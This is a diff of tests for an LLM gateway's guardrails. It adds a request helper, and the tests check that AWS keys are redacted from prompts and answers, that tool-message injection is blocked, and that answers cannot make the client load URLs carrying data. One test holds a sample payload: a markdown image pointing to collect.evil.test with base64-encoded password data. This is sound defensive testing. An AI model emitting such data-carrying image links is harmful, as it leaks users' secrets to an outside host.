@@ -99,6 +99,14 @@ def chat(client: TestClient, key: str, content: Any = "hello", **extra: Any) -> 
     )
 
 
+def ask(client: TestClient, key: str, model: str, content: str) -> httpx.Response:
+    """One user message to ``model``."""
+    body = {"model": model, "messages": [{"role": "user", "content": content}]}
+    return client.post(
+        "/v1/chat/completions", json=body, headers={"Authorization": f"Bearer {key}"}
+    )
+
+
 def assert_openai_error(response: httpx.Response, status: int, code: str | None = None) -> None:
     assert response.status_code == status
     error = response.json()["error"]
@@ -151,11 +159,7 @@ def test_a_key_in_a_pasted_kubernetes_secret_never_reaches_the_upstream(
     encoded = base64.b64encode(AWS_KEY_ID.encode()).decode()
     manifest = f"kind: Secret\ndata:\n  aws_access_key_id: {encoded}\n"
     with client_for(keys, {"fixed": upstream}, fixed=["fixed"]) as client:
-        response = client.post(
-            "/v1/chat/completions",
-            json={"model": "fixed", "messages": [{"role": "user", "content": manifest}]},
-            headers={"Authorization": f"Bearer {app_key}"},
-        )
+        response = ask(client, app_key, "fixed", manifest)
     assert response.status_code == 200
     [sent] = upstream.requests
     [user] = [m for m in sent["messages"] if m["role"] == "user"]
@@ -186,11 +190,7 @@ def test_injection_in_a_tool_message_is_blocked(keys: KeyStore, app_key: str) ->
 def test_answer_is_guarded_on_the_way_out(keys: KeyStore, app_key: str) -> None:
     leaky = FixedProvider("leaky", f"Sure, the key id is {AWS_KEY_ID}.")
     with client_for(keys, {"leaky": leaky}, leaky=["leaky"]) as client:
-        response = client.post(
-            "/v1/chat/completions",
-            json={"model": "leaky", "messages": [{"role": "user", "content": "hi"}]},
-            headers={"Authorization": f"Bearer {app_key}"},
-        )
+        response = ask(client, app_key, "leaky", "hi")
     assert response.status_code == 200
     assert AWS_KEY_ID not in response.text
     assert response.headers["x-mantlet-output-action"] == "redact"
@@ -204,11 +204,7 @@ def test_an_answer_cannot_make_the_client_fetch_a_url_carrying_data(
     image = "![loading](https://collect.evil.test/p.png?d=bXkgcGFzc3dvcmQgaXMgaHVudGVyMg)"
     leaky = FixedProvider("leaky", f"Here is your summary. {image}")
     with client_for(keys, {"leaky": leaky}, leaky=["leaky"]) as client:
-        response = client.post(
-            "/v1/chat/completions",
-            json={"model": "leaky", "messages": [{"role": "user", "content": "summarise"}]},
-            headers={"Authorization": f"Bearer {app_key}"},
-        )
+        response = ask(client, app_key, "leaky", "summarise")
     assert response.status_code == 200
     content = response.json()["choices"][0]["message"]["content"]
     assert content == "Here is your summary. <URL_WITH_DATA_1>"
